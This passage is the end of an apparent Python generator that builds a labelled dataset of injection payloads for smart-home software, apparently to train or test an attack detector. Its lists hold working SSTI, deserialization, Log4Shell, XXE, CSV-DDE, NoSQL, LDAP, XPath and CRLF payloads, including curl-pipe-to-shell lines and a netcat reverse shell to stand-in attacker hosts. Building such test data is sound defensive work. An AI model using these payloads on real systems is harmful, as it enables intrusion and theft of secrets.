    ("plain-localhost", "http://localhost/"),
    ("plain-file_passwd", "file:///etc/passwd"),
    ("plain-loopback_ssh", "http://127.0.0.1:22/"),
    ("camera_url-host+urlenc", "http://%31%32%37%2e%30%2e%30%2e%31:8123/"),
    ("camera_url-host+enclosed_alnum", "http://①②⑦.⓪.⓪.①:8123/"),
]

CODE = [
    ("jinja_template-ssti_cycler_popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja_template-ssti_lipsum_secrets", "{{ lipsum.__globals__['os'].popen('cat /config/secrets.yaml').read() }}"),
    ("jinja_template-ssti_subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("jinja_template-ssti_template_reference", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja_template-ssti_catch_warnings_loop", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('uname -a').read() }}{% endif %}{% endfor %}"),
    ("jinja_template-ssti_flask_request", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("jinja_template-ssti_flask_config", "{{ config.items() }}"),
    ("jinja_template-ssti_attr_hex_escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("jinja_template-ssti_namespace_system", "{{ namespace.__init__.__globals__.os.system('curl -s http://attacker.example/j|sh') }}"),
    ("jinja_template-ssti_environ", "{% set g = lipsum.__globals__ %}{{ g.os.environ }}"),
    ("jinja_template-ssti_in_state_check", "{{ states('sensor.temp') }}{{ cycler.__init__.__globals__.os.popen('cat /config/.storage/auth').read() }}"),
    ("jinja_condition-ssti_joiner", "{% if is_state('light.x','on') %}{{ joiner.__init__.__globals__.os.popen('id').read() }}{% endif %}"),
    ("jinja_template-ssti_flashed_open", "{{ get_flashed_messages.__globals__.__builtins__.open('/config/secrets.yaml').read() }}"),
    ("jinja_template-ssti_url_for", "{{ url_for.__globals__.os.popen('id').read() }}"),
    ("jinja_template-ssti_attr_chain_no_dots", "{{ lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')() }}"),
    ("yaml_value_template-ssti", "sensor:\n  - platform: template\n    sensors:\n      x:\n        value_template: \"{{ cycler.__init__.__globals__.os.popen('id').read() }}\""),
    ("message_template-mako_expr", "<% import os %>${os.popen('id').read()}"),
    ("message_template-twig_filter_system", "{{ ['id']|filter('system') }}"),
    ("message_template-freemarker_execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("message_template-velocity_runtime", "#set($s=\"\")#set($rt=$s.getClass().forName(\"java.lang.Runtime\"))$rt.getRuntime().exec(\"id\")"),
    ("rule_expression-spel_runtime", "#{T(java.lang.Runtime).getRuntime().exec('curl http://attacker.example/s')}"),
    ("rule_expression-spel_dollar", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("rule_expression-ognl_runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("message_template-erb_backtick", "<%= `id` %>"),
    ("message_template-tornado_import", "{% import os %}{{ os.popen('id').read() }}"),
    ("message_template-django_settings", "{{ settings.SECRET_KEY }}"),
    ("message_template-smarty_system", "{system('id')}"),
    ("message_template-nunjucks_constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("message_template-el_session", "${pageContext.request.getSession().setAttribute(\"admin\",true)}"),
    ("nodered_function-vm_escape", "const p = this.constructor.constructor('return process')();\nmsg.payload = p.mainModule.require('child_process').execSync('id').toString();\nreturn msg;"),
    ("nodered_function-child_process_exec", "require('child_process').exec('curl attacker.example/s|sh');\nreturn msg;"),
    ("nodered_function-global_process_secrets", "msg.payload = global.process.mainModule.require('fs').readFileSync('/data/flows_cred.json','utf8');\nreturn msg;"),
    ("js_eval_string-breakout", "'); require('child_process').exec('id'); ('"),
    ("value_expression-python_eval_import", "21.5 + len(__import__('subprocess').getoutput('id'))"),
    ("value_expression-python_eval_system", "__import__('os').system('nc 203.0.113.9 9001 -e /bin/sh')"),
    ("format_string-python_globals", "Temp is {sensor.__init__.__globals__[CONFIG].api_password}"),
    ("backup_blob-pickle_protocol0", "cos\nsystem\n(S'curl -s http://attacker.example/p|sh'\ntR."),
    ("yaml_config-python_object_apply", "!!python/object/apply:os.system [\"curl -s http://attacker.example/p | sh\"]"),
    ("yaml_config-python_object_new", "!!python/object/new:subprocess.check_output [[\"cat\", \"/config/secrets.yaml\"]]"),
    ("yaml_config-snakeyaml_script_engine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("device_blob-php_object_injection", "O:12:\"DeviceLogger\":1:{s:7:\"logfile\";s:23:\"/var/www/html/shell.php\";}"),
    ("device_json-jackson_polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example/o\",\"autoCommit\":true}]"),
    ("mqtt_payload-fastjson_autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example/x\",\"autoCommit\":true}"),
    ("mqtt_payload-node_serialize_iife", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("device_import_xml-xxe_file", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"file:///config/secrets.yaml\">]><device><name>&x;</name></device>"),
    ("device_import_xml-xxe_parameter_oob", "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY % e SYSTEM \"http://attacker.example/e.dtd\"> %e;]>\n<r/>"),
    ("floorplan_svg-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY p SYSTEM \"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text x=\"0\" y=\"20\">&p;</text></svg>"),
    ("device_import_xml-xinclude", "<root xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></root>"),
    ("device_import_xml-entity_expansion", "<?xml version=\"1.0\"?><!DOCTYPE b [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><b>&d;&d;&d;&d;&d;</b>"),
    ("device_name-log4shell_ldap", "Garage ${jndi:ldap://attacker.example/a}"),
    ("device_name-log4shell_lower_lookup", "${${lower:j}ndi:${lower:l}dap://x.attacker.example/o}"),
    ("user_agent-log4shell_dns", "HomeAssistant/2024.3 ${jndi:dns://203.0.113.8/z}"),
    ("device_name-log4shell_default_lookup", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/q}"),
    ("device_name-log4shell_env_exfil", "${jndi:ldap://${env:HOSTNAME}.attacker.example/h}"),
    ("mqtt_payload-log4shell_state", "{\"state\":\"${jndi:ldap://attacker.example/z}\"}"),
    ("device_name-log4shell_env_default", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://attacker.example/x}"),
    ("mqtt_payload-proto_pollution", "zigbee2mqtt/lamp/set {\"__proto__\":{\"isAdmin\":true}}"),
    ("settings_json-constructor_prototype", "{\"constructor\":{\"prototype\":{\"isAdmin\":true,\"role\":\"owner\"}}}"),
    ("query_string-proto_pollution_ejs", "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("query_string-constructor_prototype", "constructor[prototype][admin]=1"),
    ("nodered_flow_import-proto_pollution", "[{\"id\":\"a1\",\"type\":\"inject\",\"__proto__\":{\"shell\":\"/bin/sh\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}]"),
    ("device_export_csv-hyperlink_exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Firmware update\")"),
    ("device_export_csv-dde_cmd", "=cmd|' /C calc'!A0"),
    ("device_export_csv-at_dde_powershell", "@SUM(1+1)*cmd|' /C powershell -nop -c iwr attacker.example/r|iex'!A0"),
    ("device_export_csv-webservice", "+WEBSERVICE(\"https://attacker.example/\"&B3)"),
    ("device_export_csv-minus_dde", "-2+3+cmd|' /C notepad'!'A1'"),
    ("device_export_csv-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?x=\",A1:C9),\"//a\")"),
    ("esphome_yaml-external_component", "external_components:\n  - source: github://attacker-example/evil-sensor@main\n    components: [ dht ]"),
    ("esphome_yaml-includes_header", "esphome:\n  name: office\n  includes:\n    - ../../../etc/passwd"),
    ("plain-jinja_ssti_probe", "{{ self.__init__.__globals__.__builtins__ }}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/x}"),
    ("plain-csv_formula", "=1+2+cmd|' /C calc'!A1"),
    ("plain-proto_pollution", "{\"__proto__\":{\"polluted\":true}}"),
    ("plain-jinja_config_popen", "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}"),
    ("plain-yaml_python_apply", "!!python/object/apply:os.system ['id']"),
    ("jinja_template-ssti+html_entities", "&#123;&#123; cycler.__init__.__globals__.os.popen('id').read() &#125;&#125;"),
    ("device_name-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fu%7D"),
    ("mqtt_payload-proto+json_unicode_escape", "{\"\\u005f\\u005fproto\\u005f\\u005f\":{\"isAdmin\":true}}"),
]

NOSQLI = [
    ("login_json-ne_null", "{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}"),
    ("login_form-bracket_ne", "username[$ne]=x&password[$ne]=x"),
    ("device_filter-regex_prefix", "{\"owner\": {\"$regex\": \"^adm\"}}"),
    ("device_filter-where_sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("device_filter-gt_empty", "{\"name\": {\"$gt\": \"\"}}"),
    ("where_string-js_breakout", "'; return true; var x='"),
    ("device_filter-or_exists", "{\"$or\": [{\"owner\": \"guest\"}, {\"owner\": {\"$exists\": true}}]}"),
    ("api_key_filter-exists_false", "{\"api_key\": {\"$exists\": false}}"),
    ("device_filter-expr_strlen", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$password\"}, 0]}}"),
    ("login_form-bracket_regex", "username=admin&password[$regex]=^a.*"),
    ("device_filter-where_tautology", "{\"entity_id\": \"light.x\", \"$where\": \"this.owner == 'admin' || 1==1\"}"),
    ("device_filter-function_operator", "{\"$expr\": {\"$function\": {\"body\": \"function(){ return true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregate_pipeline-lookup_users", "[{\"$lookup\":{\"from\":\"users\",\"localField\":\"owner\",\"foreignField\":\"_id\",\"as\":\"u\"}}]"),
    ("couch_mango-selector_gt_null", "{\"selector\":{\"_id\":{\"$gt\":null}}}"),
    ("login_form-nin_array", "login[$nin][]=admin&login[$nin][]=guest&pass[$ne]=1"),
    ("device_filter-where_regex_timing", "{\"$where\": \"this.password.match(/^a/) ? sleep(3000) : 1\"}"),
    ("mqtt_payload-ne_state", "zigbee2mqtt/lamp/set {\"state\":{\"$ne\":\"OFF\"}}"),
    ("where_string-or_true_comment", "x' || 1==1//"),
    ("login_json-password_regex_any", "{\"username\":\"admin\",\"password\":{\"$regex\":\".*\"}}"),
    ("topic_filter-regex_options", "{\"topic\":{\"$regex\":\".*\",\"$options\":\"si\"}}"),
    ("device_filter-in_roles", "{\"role\": {\"$in\": [\"admin\", \"owner\", \"system\"]}}"),
    ("plain-ne_operator", "{\"$ne\": null}"),
    ("plain-gt_empty", "{\"$gt\": \"\"}"),
    ("login_form-ne+urlenc", "password%5B%24ne%5D=x"),
]

CRLF = [
    ("download_filename-set_cookie", "Kitchen lamp\r\nSet-Cookie: session=PLACEHOLDER; Path=/"),
    ("download_filename-response_splitting", "backup.tar\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("device_name-log_forging_ha", "porch light\n2024-03-11 08:15:02.117 INFO (MainThread) [homeassistant.components.http.auth] Login successful for user admin from 192.168.1.10"),
    ("redirect_param-location+urlenc", "/lovelace%0d%0aLocation:%20https://attacker.example/"),
    ("notify_email_name-bcc", "Anna <anna@example.org>\r\nBcc: list@attacker.example"),
    ("notify_email_subject-bcc_body", "Alarm triggered\nBcc: victims@attacker.example\n\nYour account was locked, reset at https://attacker.example/reset"),
    ("notify_email_body-smtp_command", "Washer finished\r\n.\r\nMAIL FROM:<alarm@attacker.example>\r\nRCPT TO:<anna@example.org>\r\nDATA\r\nSubject: Reset your hub password\r\n\r\nhttps://attacker.example/\r\n."),
    ("device_name-log_forging_z2m", "lamp\nZigbee2MQTT:info  2024-03-11 09:02:10: Device 'front_door_lock' unlocked by admin"),
    ("device_name-line_separator_log", "hallway\u2028[ERROR] Alarm disarmed by admin"),
    ("device_name-nel_log", "hallway\u0085INFO Backup uploaded to https://attacker.example/b"),
    ("rest_command_url-request_splitting", "http://192.168.1.50/api HTTP/1.1\r\nHost: 192.168.1.50\r\n\r\nGET /cm?cmnd=Power%20OFF HTTP/1.1\r\nHost: 192.168.1.50\r\n\r\n"),
    ("download_filename-utf8_truncation", "report.csv%E5%98%8A%E5%98%8DSet-Cookie:%20x=PLACEHOLDER"),
    ("redirect_param-set_cookie+double_urlenc", "/config%250d%250aSet-Cookie:%2520hass_auth=PLACEHOLDER"),
    ("device_name-ansi_escape_log", "lamp\u001b[2J\u001b[1;1HAll systems normal"),
    ("device_name-osc_title_log", "lamp\u001b]0;hub compromised\u0007"),
    ("notify_email_title-reply_to", "Smoke alarm\r\nReply-To: support@attacker.example\r\nX-Priority: 1"),
    ("cookie_value-lf_set_cookie", "dark_theme\nSet-Cookie: hass_auth=PLACEHOLDER; HttpOnly"),
    ("content_disposition-header_body", "floorplan.svg\r\n\r\n<html><body onload=alert(1)>"),
    ("mqtt_payload-json_log_forging", "pump\"}\n{\"level\":\"info\",\"msg\":\"admin login ok\",\"user\":\"admin\",\"ip\":\"192.168.1.10\""),
    ("user_agent-nginx_log_forging", "Mozilla/5.0\n192.168.1.10 - admin [11/Mar/2024:08:01:44 +0100] \"POST /api/services/lock/unlock HTTP/1.1\" 200 2"),
    ("device_name-carriage_return_overwrite", "lamp\rINFO All systems normal, no intrusions"),
    ("tasmota_console-newline_command_smuggling", "Power1 ON\r\nMqttHost 203.0.113.20"),
    ("webhook_header-cors_injection", "hub.local\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("syslog_message-forged_priority", "motion ok\n<13>Mar 11 08:20:01 rpi4 sshd[2211]: Accepted password for root from 192.168.1.10"),
    ("plain-crlf_set_cookie", "\r\nSet-Cookie: a=PLACEHOLDER"),
    ("plain-crlf_header+urlenc", "%0d%0aX-Injected:%20yes"),
    ("plain-lf_log_line", "x\nINFO user admin logged in"),
]

LDAP_XPATH = [
    ("ldap_login_uid-wildcard_or", "*)(uid=*))(|(uid=*"),
    ("ldap_login_uid-and_true", "admin)(&)"),
    ("ldap_group_filter-memberof", "*)(|(memberOf=cn=admins,ou=groups,dc=home,dc=lan)"),
    ("ldap_login_uid-blind_password_prefix", "anna)(userPassword=a*"),
    ("ldap_user_search-objectclass_any", "*)(objectClass=*"),
    ("ldap_login_uid-close_or_cn", "admin))(|(cn=*"),
    ("ldap_login_uid-null_truncation", "*)(cn=*))%00"),
    ("ldap_user_search-description_secret", "x)(description=*secret*"),
    ("ldap_user_search-not_nobody", "*)(!(cn=nobody)"),
    ("ldap_user_search-mail_domain", "*)(mail=*@home.lan"),
    ("xpath_device_lookup-or_tautology", "' or 1=1 or ''='"),
    ("xpath_device_lookup-name_function", "x' or name()='device' or 'a'='b"),
    ("xpath_device_lookup-union_passwords", "'] | //user/password | //a['"),
    ("xpath_device_lookup-count_probe", "' or count(/*)=1 or 'a'='b"),
    ("xpath_device_lookup-substring_blind", "' or substring(//user[1]/password,1,1)='s' or 'a'='b"),
    ("xpath_numeric_id-or_true", "0 or 1=1"),
    ("xpath_device_lookup-select_all", "'] | //* | //*['"),
    ("xpath_device_lookup-string_length_probe", "' or string-length(name(/*[1]))=7 or ''='"),
    ("xquery_device_lookup-doc_exfil", "' or doc(concat('http://attacker.example/',name(/*))) or '"),
    ("xpath_device_lookup-attribute_extract", "lamp' or @role='admin' or '1'='2"),
    ("plain-ldap_wildcard", "*)(|(objectClass=*)"),
    ("plain-ldap_password_any", "admin)(|(userPassword=*))"),
    ("ldap_login_uid-wildcard+urlenc", "%2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a"),
]

# ---------------------------------------------------------------- templated encoded variants
# (context, technique, core, allowed encodings): cores are hand-written, the template only encodes.
ENC_CORES = {
    "sqli": [
        ("device_name", "union", "Lamp' UNION SELECT name, password FROM users-- -", ["urlenc", "double_urlenc", "case_mix"]),
        ("entity_id", "tautology", "switch.pump' OR 'a'='a", ["urlenc", "html_entities"]),
        ("room_id", "time_blind", "3 AND (SELECT 1 FROM (SELECT SLEEP(6))x)", ["urlenc", "case_mix"]),
        ("mqtt_payload", "stacked", "{\"device\":\"lamp'; DELETE FROM devices;--\"}", ["json_unicode_escape", "urlenc"]),
    ],
    "xss": [
        ("device_name", "svg_onload", "Lamp<svg onload=alert(document.domain)>", ["urlenc", "double_urlenc", "case_mix"]),
        ("forum_post", "img_onerror", "<img src=x onerror=alert(1)>", ["html_entities", "urlenc"]),
        ("mqtt_payload", "details_ontoggle", "{\"name\":\"<details open ontoggle=alert(1)>\"}", ["json_unicode_escape"]),
    ],
    "cmdi": [
        ("ping_host", "semicolon_curl", "192.168.1.1;curl -s http://attacker.example/r|sh", ["urlenc", "double_urlenc"]),
        ("esphome_file", "subst", "x.yaml $(cat /config/secrets.yaml)", ["urlenc"]),
        ("ping_host", "pipe_id", "192.168.1.1|id", ["urlenc", "double_urlenc"]),
    ],
    "traversal": [
        ("media_path", "dotdot_secrets", "../../../config/secrets.yaml", ["urlenc_all", "double_urlenc_all"]),
        ("www_file", "dotdot_auth", "../../.storage/auth", ["urlenc_all", "double_urlenc_all"]),
    ],
    "ssrf": [
        ("rest_resource", "metadata", "http://169.254.169.254/latest/meta-data/", ["urlenc_all"]),
        ("camera_url", "localhost_api", "http://127.0.0.1:8123/api/states", ["urlenc_all", "double_urlenc_all"]),
    ],
    "code": [
        ("jinja_template", "ssti_popen", "{{ cycler.__init__.__globals__.os.popen('cat /config/secrets.yaml').read() }}", ["urlenc", "html_entities"]),
        ("device_name", "log4shell", "${jndi:ldap://attacker.example/e}", ["urlenc", "double_urlenc"]),
        ("mqtt_payload", "proto_pollution", "{\"__proto__\":{\"role\":\"admin\"}}", ["urlenc"]),
        ("rule_expression", "spel_runtime", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')}", ["urlenc"]),
    ],
    "nosqli": [
        ("login_json", "ne_null", "{\"password\":{\"$ne\":null}}", ["urlenc", "json_unicode_escape"]),
    ],
    "crlf": [
        ("download_filename", "set_cookie", "log.txt\r\nSet-Cookie: hass_auth=PLACEHOLDER", ["urlenc", "double_urlenc"]),
        ("device_name", "log_forging", "lamp\nINFO Alarm disarmed by admin", ["urlenc", "json_unicode_escape"]),
    ],
    "ldap-xpath": [
        ("ldap_login_uid", "wildcard_or", "admin)(|(uid=*", ["urlenc"]),
        ("xpath_device_lookup", "or_tautology", "' or '1'='1", ["urlenc", "html_entities"]),
    ],
}
ENC_COUNT = {"sqli": 1, "xss": 4, "cmdi": 3, "traversal": 4, "ssrf": 3, "code": 2,
             "nosqli": 2, "crlf": 3, "ldap-xpath": 2}


def enc_urlenc(s, r):
    return quote(s, safe="/:.,-_()=*@")


def enc_urlenc_all(s, r):
    return "".join("%%%02X" % b if chr(b) in "./" or not chr(b).isalnum() else chr(b) for b in s.encode())


def enc_double_urlenc(s, r):
    return quote(quote(s, safe="/:.,-_()=*@"), safe="/:.,-_()=*@")


def enc_double_urlenc_all(s, r):
    return enc_urlenc_all(s, r).replace("%", "%25")


def enc_html_entities(s, r):
    return "".join("&#%d;" % ord(c) if c in "<>'\"{}" else c for c in s)


def enc_json_unicode_escape(s, r):
    # escape the characters inside JSON string values; the JSON parser decodes them
    out = []
    for c in s:
        if c in "<>'$_;\n\r":
            out.append("\\u%04x" % ord(c))
        else:
            out.append(c)
    return "".join(out)


def enc_case_mix(s, r):
    return "".join(c.upper() if c.isalpha() and r.random() < 0.5 else c.lower() for c in s)


ENCODERS = {
    "urlenc": enc_urlenc, "urlenc_all": enc_urlenc_all, "double_urlenc": enc_double_urlenc,
    "double_urlenc_all": enc_double_urlenc_all, "html_entities": enc_html_entities,
    "json_unicode_escape": enc_json_unicode_escape, "case_mix": enc_case_mix,
}
ENC_LABEL = {"urlenc_all": "urlenc", "double_urlenc_all": "double_urlenc"}


def encoded_variant(category, r):
    ctx, tech, core, encs = r.choice(ENC_CORES[category])
    enc = r.choice(encs)
    if enc == "case_mix":
        # only mix case of SQL keywords / tag names, keep data readable
        value = core
        words = [w for w in ["UNION", "SELECT", "FROM", "SLEEP", "svg", "onload", "AND"] if w in value]
        for w in words:
            value = value.replace(w, enc_case_mix(w, r))
    else:
        value = ENCODERS[enc](core, r)
    return f"{ctx}-{tech}+{ENC_LABEL.get(enc, enc)}", value


LITERALS = [
    ("sqli", SQLI), ("xss", XSS), ("cmdi", CMDI), ("traversal", TRAVERSAL), ("ssrf", SSRF),
    ("code", CODE), ("nosqli", NOSQLI), ("crlf", CRLF), ("ldap-xpath", LDAP_XPATH),
]


def main():
    r = random.Random(SEED)
    rows = []
    seen = set()
    report = []
    total_lit = 0
    for cat, lits in LITERALS:
        n0 = len(rows)
        for cls, v in lits:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
        nlit = len(rows) - n0
        total_lit += nlit
        made, guard = 0, 0
        while made < ENC_COUNT[cat]:
            guard += 1
            if guard > 5000:
                raise SystemExit(f"encoder exhausted for {cat}")
            cls, v = encoded_variant(cat, r)
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, cls, v))
            made += 1
        report.append((cat, len(rows) - n0, nlit))
    benign = Path(__file__).with_name("benign.jsonl")
    if benign.exists():
        bvals = [json.loads(line)["value"] for line in benign.read_text(encoding="utf-8").splitlines()]
        clash = [v for _, _, v in rows if v in set(bvals)]
        if clash:
            raise SystemExit(f"values also in benign.jsonl: {clash[:3]}")
    out = []
    for i, (cat, cls, v) in enumerate(rows, 1):
        assert isinstance(v, str) and v and len(v) <= 1800, (cat, v)
        assert cls.count("-") >= 1 and " " not in cls, cls
        out.append({"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v})
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for o in out:
            f.write(json.dumps(o, ensure_ascii=False) + "\n")
    for cat, n, nlit in report:
        print(f"{cat:12s} {n:4d}  literals {nlit}")
    print(f"total {len(out)}  literals {total_lit} ({100 * total_lit / len(out):.1f}%)")


if __name__ == "__main__":
    main()
